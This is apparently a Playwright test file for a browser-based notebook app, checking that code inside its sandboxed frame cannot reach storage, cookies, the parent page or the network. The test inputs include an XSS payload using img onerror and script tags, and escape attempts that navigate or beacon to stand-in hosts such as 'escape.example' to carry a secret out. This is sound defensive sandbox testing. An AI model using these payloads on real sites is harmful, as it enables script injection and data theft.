import { expect } from '@playwright/test';
import { inFrameWindow } from './frame-window.ts';
import { NotebookPage } from './notebook-page.ts';
import { fresh, test } from './story.ts';

/** What code of a notebook must not reach, wherever it runs. */
const attempts = {
  indexedDB:
    'await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = () => no(r.error); })',
  localStorage: 'localStorage.length',
  sessionStorage: 'sessionStorage.length',
  caches: 'await caches.keys()',
  'parent.document': 'parent.document.title',
  'document.cookie': 'document.cookie',
  opfs: 'await navigator.storage.getDirectory()',
};

const probe = (origin: string) => `
const attempts = ${JSON.stringify({ ...attempts, 'fetch of the app': `(await (await fetch(${JSON.stringify(origin)})).text()).length` })};
for (const [name, code] of Object.entries(attempts)) {
  try {
    const got = await eval('(async () => ' + code + ')()');
    console.log('REACHED ' + name + ' ' + String(got));
  } catch (error) {
    console.log('refused ' + name + ' (' + error.name + ')');
  }
}
console.log('origin ' + self.origin);
`;

test('neither the kernel nor an engine reaches storage, documents or pages of the app', async ({
  page,
  baseURL,
}) => {
  const notebook = new NotebookPage(page);
  const code = probe(baseURL ?? '');
  await notebook.open([code, `%%px --targets 0\n${code}`]);
  for (const cell of [1, 2]) {
    const text = await notebook.text(cell);
    expect(text).not.toContain('REACHED');
    for (const name of [...Object.keys(attempts), 'fetch of the app'])
      expect(text).toContain(`refused ${name}`);
    expect(text).toContain('origin null');
  }
});

fresh('opening a link runs nothing until the reader says so', async ({ page }) => {
  const notebook = new NotebookPage(page);
  await notebook.openLink(['console.log("ran")']);
  await expect(notebook.button('Run this notebook')).toBeVisible();
  await expect(notebook.kernel('idle')).toBeVisible();
  await notebook.run(1);
  await expect(page.getByText('ran', { exact: true })).toHaveCount(0);
  // Once said, it is kept at once.
  await notebook.button('Run this notebook').click();
  await page.reload();
  await expect(notebook.kernel('idle')).toBeVisible();
  await expect(notebook.button('Run this notebook')).toHaveCount(0);
  await notebook.run(1);
  await expect(notebook.output(1)).toContainText('ran');
});

test('the page itself cannot eval once the frame is made', async ({ page }) => {
  const notebook = new NotebookPage(page);
  await notebook.open(['0']);
  const outcome = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.inlineRan = true';
    document.head.append(script);
    return 'inlineRan' in window;
  });
  expect(outcome).toBe(false);
});

test('HTML output runs no script and reaches no other host', async ({ page }) => {
  // A request that the page's policy stops is announced too, and then fails with `csp`: it never left.
  const left: string[] = [];
  page.on('response', (response) => left.push(response.url()));
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText !== 'csp') left.push(request.url());
  });
  const notebook = new NotebookPage(page);
  await notebook.open([
    'display.html(`<b>bold</b><img src="https://evil.example/x.png" onerror="document.title=1"><script>document.title="owned"</script>`);\n' +
      'display.svg(`<svg width="10" height="10"><script>document.title="owned"</script><rect width="5" height="5"/></svg>`)',
  ]);
  await expect(notebook.output(1).getByText('bold')).toBeVisible();
  expect(await page.title()).not.toContain('owned');
  expect(left.filter((url) => url.includes('evil.example'))).toEqual([]);
});

test('a scheme of a cell can do nothing but choose, and the window of the frame runs no text', async ({
  page,
}) => {
  const notebook = new NotebookPage(page);
  const mine = (scheme: string) =>
    `{ await using c = new Cluster({ n: 2, scheme: ${scheme} });\n` +
    '  const view = (await c.startAndConnect()).loadBalancedView();\n' +
    '  const ran = await Promise.all([1, 2, 3].map(() => view.apply(() => engine.id)));\n' +
    '  console.log(JSON.stringify(ran)); }';
  await notebook.open([
    mine('(loads) => loads.length - 1'),
    mine('() => { globalThis.focus(); new RTCPeerConnection(); return 0; }'),
    mine('() => { while (true) {} }'),
  ]);
  for (const cell of [1, 2, 3]) await expect(notebook.output(cell)).toContainText(/\[[01],[01],[01]\]/);
  const complaints = page.getByText(/The scheme that chooses engines does not work/);
  await expect(complaints.filter({ hasText: 'it threw TypeError: not a function' }).first()).toBeAttached();
  for (const code of [
    'eval("1")',
    'new Function("1")',
    '(async () => 0).constructor("1")',
    'setTimeout("1")',
  ])
    expect(await inFrameWindow(page, `try { ${code}; 'it ran' } catch (error) { error.message }`)).toBe(
      'No text is run as code here.',
    );
});

/** Code that runs in the frame's window, as no code of a notebook ever should: what stands behind that wall. */
test('the window of the frame has no way out, even for code that got into it', async ({ page }) => {
  const left: string[] = [];
  page.on('request', (request) => left.push(request.url()));
  const notebook = new NotebookPage(page);
  await notebook.open(['0']);
  const attempt = (code: string) =>
    inFrameWindow(page, `(async () => { ${code} })().then(String, (error) => 'refused: ' + error.name)`);
  const absent = [
    'RTCPeerConnection',
    'webkitRTCPeerConnection',
    'RTCDataChannel',
    'WebTransport',
    'WebSocket',
    'WebSocketStream',
    'EventSource',
    'XMLHttpRequest',
    'BroadcastChannel',
    'fetch',
    'open',
    'focus',
    'indexedDB',
    'caches',
  ];
  expect(await attempt(`return ${JSON.stringify(absent)}.filter((name) => name in globalThis)`)).toBe('');
  for (const code of [
    'document.createElement("iframe")',
    'document.write("<iframe></iframe>")',
    'document.appendChild(new Image())',
    'new Document().createElement("iframe")',
    'new Range().createContextualFragment("<iframe></iframe>")',
    'document.body.innerHTML = "<iframe></iframe>"',
    'new Image().click()',
    'top.document.title',
    'parent.document.title',
    'parent.parent.document.title',
    'top.location.href = "https://escape.example/top"',
    'navigator.sendBeacon("https://escape.example/beacon")',
  ])
    expect(await attempt(code), code).toMatch(/^refused/);
  // Keys go to the cell that has them.
  await notebook.code(1).focus();
  await attempt('Window.prototype.focus?.call(globalThis); return document.hasFocus?.()');
  await page.keyboard.insertText('typed');
  await expect(notebook.cell(1)).toContainText('typed');
  // It cannot lead itself away: what it knows would go with the address. It is gone then, and the page says so.
  await attempt('location.replace("javascript:globalThis.ran = 1"); return 0');
  expect(await attempt('return typeof ran')).toBe('undefined');
  await attempt('location.href = "https://escape.example/self?secret"; return 0');
  await expect(notebook.button('Stop everything')).toBeVisible({ timeout: 60_000 });
  expect(left.filter((url) => url.includes('escape.example'))).toEqual([]);
  await notebook.button('Stop everything').click();
  await notebook.execute(1, '6 * 7');
  await expect(notebook.output(1)).toContainText('42');
});

test('another notebook has a runtime of its own, in which nothing of the one before is left', async ({
  page,
}) => {
  const notebook = new NotebookPage(page);
  await notebook.open([
    'globalThis.mine = 1; setInterval(() => console.log("late"), 50); await rc[":"].push({ theirs: 2 });\nmine',
  ]);
  await notebook.engine(0, 'idle').waitFor();
  const before = page.frames().find((one) => one.parentFrame() !== null && one.childFrames().length === 0);
  await inFrameWindow(page, 'globalThis.hook = 1; MessagePort.prototype.postMessage = () => {}; 0');
  await notebook.open([
    '[typeof mine, await rc[":"].apply(() => typeof theirs), rc.ids.length].flat().join()',
  ]);
  await expect(notebook.output(1)).toContainText('undefined,undefined,undefined,undefined,undefined,4');
  expect(before?.isDetached()).toBe(true);
  expect(await inFrameWindow(page, 'typeof hook')).toBe('undefined');
  // Counters and lives begin anew.
  for (const id of [0, 1, 2, 3]) await expect(notebook.engine(id, 'idle')).toBeVisible();
  await expect(notebook.output(1)).not.toContainText('late');
});

test('a frame that does not answer: the page says so, stops everything, and goes on', async ({ page }) => {
  const notebook = new NotebookPage(page);
  await notebook.open(['const here = 1; here']);
  void inFrameWindow(page, 'while (true);').catch(() => undefined);
  const stop = notebook.button('Stop everything');
  await expect(stop).toBeVisible({ timeout: 60_000 });
  await stop.click();
  await expect(stop).toBeHidden();
  await expect(notebook.kernel('idle')).toBeVisible({ timeout: 60_000 });
  await notebook.execute(1, 'typeof here + (await rc[":"].apply(() => 1))');
  await expect(notebook.output(1)).toContainText('undefined1,1,1,1');
});
